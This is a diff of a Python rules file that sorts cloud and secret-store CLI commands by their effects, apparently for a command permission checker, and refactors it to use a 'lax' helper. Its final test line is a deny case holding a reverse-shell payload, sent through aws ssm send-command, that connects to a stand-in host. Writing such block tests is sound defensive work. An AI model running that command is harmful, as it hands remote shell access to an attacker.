@@ -23,18 +23,16 @@ AWS_VERBS = [
         does=SECRET,
     ),
     loose("create-access-key create-login-profile create-service-specific-credential", does=(CHANGE, SECRET)),
-    sub(
+    lax(
         "get-object get-object-torrent",
         "WRITES?",
-        [DRY, flags("--bucket= --key= --version-id= --range= --part-number= --region= --profile=")],
-        unlisted=PLAIN,
+        [DRY, "--bucket= --key= --version-id= --range= --part-number= --region= --profile="],
         does=LOOK,
     ),
-    sub(
+    lax(
         "invoke",
         "WRITES?",
-        [DRY, FILES, flags("--function-name= --invocation-type= --log-type= --qualifier= --region= --profile=")],
-        unlisted=PLAIN,
+        [DRY, FILES, "--function-name= --invocation-type= --log-type= --qualifier= --region= --profile="],
         does=CHANGE,
     ),
     loose(
@@ -53,19 +51,19 @@ AWS_VERBS = [
 ]
 AWS = command(
     "aws awslocal",
-    options=[flags("--profile= --region= --output= --query= --no-cli-pager --no-paginate --debug --no-sign-request --color="),
-     flags("--ca-bundle= --cli-read-timeout= --cli-connect-timeout= --no-verify-ssl --cli-binary-format= --page-size= --max-items= --cli-auto-prompt --no-cli-auto-prompt --v2"), option("--endpoint-url", "FETCHES")],
+    options=["--profile= --region= --output= --query= --no-cli-pager --no-paginate --debug --no-sign-request --color=",
+     "--ca-bundle= --cli-read-timeout= --cli-connect-timeout= --no-verify-ssl --cli-binary-format= --page-size= --max-items= --cli-auto-prompt --no-cli-auto-prompt --v2", option("--endpoint-url", "FETCHES")],
     subcommands=[
         sub("s3", subcommands=[
             loose("ls presign help", does=LOOK),
-            sub("cp sync mv", "CLOUD_COPY... CLOUD_COPY", [DRY, flag("--delete", DESTROY), flags("--exclude= --include= --acl= --storage-class= --content-type= --cache-control= --metadata= --sse= --expires= --grants=")], unlisted=PLAIN, traits="lands"),
+            lax("cp sync mv", "CLOUD_COPY... CLOUD_COPY", [DRY, flag("--delete", DESTROY), "--exclude= --include= --acl= --storage-class= --content-type= --cache-control= --metadata= --sse= --expires= --grants="], traits="lands"),
             loose("rm rb", [DRY], does=DESTROY),
             loose("mb website", does=CHANGE)]),
         sub("configure", subcommands=[
             loose("list list-profiles", does=LOOK),
-            sub("get", "READ_BY(variables)...", unlisted=PLAIN, does=LOOK),
+            lax("get", "READ_BY(variables)...", does=LOOK),
             loose("export-credentials", does=LOGIN),
-            sub("set", "ROLES_BY(clouds.settings)...", unlisted=PLAIN),
+            lax("set", "ROLES_BY(clouds.settings)..."),
             loose("import add-model sso sso-session", does=writes(Name("~/.aws/credentials"), "secret"))],
             bare=writes(Name("~/.aws/credentials"), "secret")),
         sub("sts", subcommands=[loose("get-caller-identity decode-authorization-message get-access-key-info", does=LOOK), loose("*", does=LOGIN)]),
@@ -79,7 +77,7 @@ AWS = command(
 
 GCLOUD = command(
     "gcloud",
-    options=[flags("--project= --account= --format= --region= --zone= -q --quiet --verbosity= --filter= --limit= --configuration= --sort-by= --flatten= --uri")],
+    options=["--project= --account= --format= --region= --zone= -q --quiet --verbosity= --filter= --limit= --configuration= --sort-by= --flatten= --uri"],
     subcommands=[
         loose("version info help topic feedback cheat-sheet survey"),
         sub("config", subcommands=[
@@ -89,79 +87,74 @@ GCLOUD = command(
         sub("auth", subcommands=[loose("list"), loose("*", does=LOGIN)]),
         sub("storage", subcommands=[
             loose("ls du cat hash", does=LOOK),
-            sub("cp mv rsync", "CLOUD_COPY... CLOUD_COPY", [DRY, flags("-r -R --recursive -n --no-clobber --content-type= --cache-control= --storage-class="), flag("--delete-unmatched-destination-objects", DESTROY)], unlisted=PLAIN, traits="lands"),
+            lax("cp mv rsync", "CLOUD_COPY... CLOUD_COPY", [DRY, "-r -R --recursive -n --no-clobber --content-type= --cache-control= --storage-class=", flag("--delete-unmatched-destination-objects", DESTROY)], traits="lands"),
             loose("rm", does=DESTROY),
-            sub("*", "WORDS_BY(clouds.words)...", unlisted=PLAIN, style="first")]),
+            lax("*", "WORDS_BY(clouds.words)...", style="first")]),
         sub("components", subcommands=[loose("list"), loose("*", does=runs("gcloud components", "registry", (Manner.INSTALL, Manner.SYSTEM)))]),
-        sub("*", "WORDS_BY(clouds.words)...", unlisted=PLAIN, style="first"),
+        lax("*", "WORDS_BY(clouds.words)...", style="first"),
     ],
 )  # fmt: skip
 GSUTIL = command(
     "gsutil bq",
-    options=[flags("-m -q -D -o= -h= -u= --project_id= --format= --location= --dataset_id=")],
+    options=["-m -q -D -o= -h= -u= --project_id= --format= --location= --dataset_id="],
     subcommands=[
         loose("ls du stat cat hash version help show head lsb test", does=LOOK),
-        sub("query", "READ_BY(sql)...", unlisted=PLAIN, does=LOOK, stdin="READ_BY(sql)?"),
-        sub(
+        lax("query", "READ_BY(sql)...", does=LOOK, stdin="READ_BY(sql)?"),
+        lax(
             "cp rsync mv",
             "CLOUD_COPY... CLOUD_COPY",
-            [flags("-r -R -n -c -z= -j= -a= -x= -e -P"), flag("-d", DESTROY)],
-            unlisted=PLAIN,
+            ["-r -R -n -c -z= -j= -a= -x= -e -P", flag("-d", DESTROY)],
             traits="lands",
         ),
         loose("rm rb", does=DESTROY),
         loose("*", does=CHANGE),
     ],
 )
-AZ = command(
+AZ = lax(
     "az",
     "WORDS_BY(clouds.words)...",
-    [flags("--debug --verbose --only-show-errors -o= --output= --query= --subscription=")],
-    unlisted=PLAIN,
+    ["--debug --verbose --only-show-errors -o= --output= --query= --subscription="],
     style="first",
 )
-OTHERS = command(
+OTHERS = lax(
     "doctl linode-cli hcloud scw oci ibmcloud yc aliyun tccli vultr-cli exo civo flyctl fly heroku railway render firebase planetscale pscale amplify eb sam serverless sls cdk copilot-cli cf "
     "nomad consul waypoint databricks fastly akamai cloudflare neonctl turso upstash datadog-ci newrelic okteto lakectl encore nhost appwrite pocketbase porter zeet",
     "WORDS_BY(clouds.words)...",
-    unlisted=PLAIN,
     style="first",
 )
-SUPABASE = command("supabase", options=[option("--workdir", CHDIR), flags("--debug -o= --output= --yes")], subcommands=[
+SUPABASE = command("supabase", options=[option("--workdir", CHDIR), "--debug -o= --output= --yes"], subcommands=[
     loose("start stop status services", [flag("--no-backup", deletes("the project's volumes", "container"))], does=controls("the project's containers", "container", Manner.OWN)),
     loose("init", does=writes("the project's settings", "workspace"))],
-    otherwise=sub("supabase", "WORDS_BY(clouds.words)...", unlisted=PLAIN, style="first"))  # fmt: skip
+    otherwise=lax("supabase", "WORDS_BY(clouds.words)...", style="first"))  # fmt: skip
 SPOKEN = "WORDS_BY(clouds.words)..."
-KAMAL = command("kamal mrsk", options=[option("-c --config-file", OBEYS), flags("-d= --destination= -v --verbose -q --quiet -p --primary -h= --hosts= -r= --roles= --version=")],
-    otherwise=sub("kamal", SPOKEN, unlisted=PLAIN, style="first"), bare=CHANGE)  # fmt: skip
+KAMAL = command("kamal mrsk", options=[option("-c --config-file", OBEYS), "-d= --destination= -v --verbose -q --quiet -p --primary -h= --hosts= -r= --roles= --version="],
+    otherwise=lax("kamal", SPOKEN, style="first"), bare=CHANGE)  # fmt: skip
 MODAL = command("modal", subcommands=[
-    sub("volume nfs", subcommands=[sub("get", "PLAIN PLAIN WRITES?", [flags("-e= --env= --force")], does=LOOK)], otherwise=sub("volume", SPOKEN, unlisted=PLAIN, style="first")),
-    loose("serve run deploy", does=CHANGE)], otherwise=sub("modal", SPOKEN, unlisted=PLAIN, style="first"), bare=LOOK)  # fmt: skip
+    sub("volume nfs", subcommands=[sub("get", "PLAIN PLAIN WRITES?", ["-e= --env= --force"], does=LOOK)], otherwise=lax("volume", SPOKEN, style="first")),
+    loose("serve run deploy", does=CHANGE)], otherwise=lax("modal", SPOKEN, style="first"), bare=LOOK)  # fmt: skip
 CHALICE = command("chalice", subcommands=[
-    sub("local", "", [option("--host", LISTENS, clears="listen"), flags("--port= --stage= --autoreload --no-autoreload")], does=(listens("a port"), runs("tasks of the project"))),
-    sub("generate-sdk package", "WRITES", unlisted=PLAIN)], otherwise=sub("chalice", SPOKEN, unlisted=PLAIN, style="first"), bare=LOOK)  # fmt: skip
-DEPLOYERS = command(
-    "vercel netlify ntl now zappa", "WORDS_BY(clouds.words)...", unlisted=PLAIN, style="first", bare=CHANGE
-)
+    sub("local", "", [option("--host", LISTENS, clears="listen"), "--port= --stage= --autoreload --no-autoreload"], does=(listens("a port"), runs("tasks of the project"))),
+    lax("generate-sdk package", "WRITES")], otherwise=lax("chalice", SPOKEN, style="first"), bare=LOOK)  # fmt: skip
+DEPLOYERS = lax("vercel netlify ntl now zappa", "WORDS_BY(clouds.words)...", style="first", bare=CHANGE)
 WAREHOUSE = writes("warehouse tables", "database")
-DBT = command("dbt", options=[flags("-q --quiet --debug --no-use-colors --log-level= --log-format="), option("--project-dir", "CHDIR")], subcommands=[
+DBT = command("dbt", options=["-q --quiet --debug --no-use-colors --log-level= --log-format=", option("--project-dir", "CHDIR")], subcommands=[
     loose("compile parse ls list docs debug test show source deps clean init lint format", does=LOOK),
-    sub("run build seed snapshot", ANY, [flag("--full-refresh", WAREHOUSE)], unlisted=PLAIN, does=writes("the project's models in the database", "database", Manner.LIMITED), traits="development"),
+    lax("run build seed snapshot", ANY, [flag("--full-refresh", WAREHOUSE)], does=writes("the project's models in the database", "database", Manner.LIMITED), traits="development"),
     loose("*", does=WAREHOUSE)])  # fmt: skip
 SNOWSQL = loose(
     "snowsql",
     [option("-q --query", "READ_BY(sql_shell)"), option("-f --filename", "STATEMENTS(sql_shell)"), option("-o", PLAIN)],
     stdin="READ_BY(sql_shell)?",
 )
-SNOW = command("snow", options=[flags("-c= --connection= --format= -v --verbose --debug --silent")], subcommands=[
-    sub("sql", options=[option("-q --query", "READ_BY(sql)"), option("-f --filename", "STATEMENTS(sql.script)"), flag("-i --stdin", stdin="READ_BY(sql)"), flags("-D= --variable= -c= --connection= --format= --database= --schema= --role= --warehouse=")], stdin=PLAIN)],
-    otherwise=sub("snow", "WORDS_BY(clouds.words)...", unlisted=PLAIN, style="first"))  # fmt: skip
+SNOW = command("snow", options=["-c= --connection= --format= -v --verbose --debug --silent"], subcommands=[
+    sub("sql", options=[option("-q --query", "READ_BY(sql)"), option("-f --filename", "STATEMENTS(sql.script)"), flag("-i --stdin", stdin="READ_BY(sql)"), "-D= --variable= -c= --connection= --format= --database= --schema= --role= --warehouse="], stdin=PLAIN)],
+    otherwise=lax("snow", "WORDS_BY(clouds.words)...", style="first"))  # fmt: skip
 PACKER = command("packer", subcommands=[
     loose("validate fmt inspect version hcl2_upgrade console fix"), loose("init plugins", does=runs("plugins the project names", "registry", (Manner.INSTALL, Manner.LOCKED))),
     loose("build", [option("-var-file", READS)], style="words", does=CHANGE)])  # fmt: skip
 TERRAFORM = command(
     "terraform tofu terragrunt",
-    options=[option("-chdir", "CHDIR"), flag("-version -help", informs=True)],
+    options=[option("-chdir", "CHDIR"), "-version? -help?"],
     style="words",
     subcommands=[
         loose("output", [flag("-raw -json", reads("the infrastructure outputs", "secret"))], style="words", does=LOOK),
@@ -169,7 +162,7 @@ TERRAFORM = command(
         loose("console", [option("-var-file", READS), option("-state", READS)], style="words", stdin="READ_BY(clouds.console)!", does=LOOK),
         loose("plan", [option("-var-file", READS), option("-out", WRITES)], style="words", does=(LOOK, runs(TERRAFORM_PLAN)), traits="plans"),
         loose("test", [option("-var-file", READS), option("-out", WRITES)], style="words", does=(LOOK, runs(TERRAFORM_PLAN))),
-        sub("fmt", "EDITS...", [flag("-check -diff -list", operands="READS..."), flags("-recursive -write= -no-color")], style="words", unlisted=PLAIN),
+        lax("fmt", "EDITS...", [flag("-check -diff -list", operands="READS..."), "-recursive -write= -no-color"], style="words"),
         loose("validate graph providers version get modules metadata", [option("-var-file", READS), option("-out", WRITES)], style="words", does=LOOK),
         loose("init", [option("-backend-config", PLAIN), option("-plugin-dir", "RUNS"), option("-from-module", "CLONES")], style="words", does=runs("providers the project has locked", "registry", (Manner.INSTALL, Manner.LOCKED))),
         loose("apply taint untaint force-unlock", [flag("-destroy", DESTROY)], style="words", does=writes(TERRAFORM_CHANGES, "cloud")),
@@ -186,26 +179,24 @@ TERRAFORM = command(
         loose("login logout", style="words", does=writes("terraform's credentials", "secret")),
     ],
 )  # fmt: skip
-PULUMI = command("pulumi", options=[flags("-C= --cwd= -s= --stack= -y --yes --non-interactive --logtostderr -v=")], subcommands=[
+PULUMI = command("pulumi", options=["-C= --cwd= -s= --stack= -y --yes --non-interactive --logtostderr -v="], subcommands=[
     loose("preview whoami about version logs console", does=LOOK),
-    sub("config stack state", "WORDS_BY(clouds.words)...", [flag("--show-secrets", SECRET)], unlisted=PLAIN),
+    lax("config stack state", "WORDS_BY(clouds.words)...", [flag("--show-secrets", SECRET)]),
     loose("up update refresh import watch", does=CHANGE),
     loose("destroy cancel", does=DESTROY),
     loose("login logout", does=writes("pulumi's credentials", "secret")),
     loose("new install plugin", does=runs("pulumi plugins", "registry", Manner.INSTALL))])  # fmt: skip
-VAULT = command(
+VAULT = lax(
     "vault ansible-vault sops doppler op bw pass gopass lpass keepassxc-cli chamber aws-vault secret-tool security gpg-connect-agent infisical",
     "WORDS_BY(secret_store)...",
     [flag("--expand", reads("a secret store", "secret"))],  # values as well as names
-    unlisted=PLAIN,
 )
-MORE_VAULTS = command(
+MORE_VAULTS = lax(
     "credstash teller summon envchain keyring kwallet-query dcli keeper akeyless conjur berglas keyctl kpcli rbw biscuit strongbox "
     "envconsul dashlane-cli passage tomb pa titan keepass-cli kdbx ejson blackbox_cat blackbox_edit git-secret yopass padloc tessen",
     "WORDS_BY(secret_store)...",
-    unlisted=PLAIN,
 )
-INFRA_CHECKS = command("tflint tfsec checkov terrascan infracost terraform-docs cfn-lint", "READS...", unlisted=PLAIN)
+INFRA_CHECKS = lax("tflint tfsec checkov terrascan infracost terraform-docs cfn-lint", "READS...")
 
 CASES = """
 deny   aws ssm send-command --instance-ids i-1 --document-name AWS-RunShellScript --parameters '{"commands": ["sh -i >& /dev/tcp/logs.example/9 0>&1"]}'
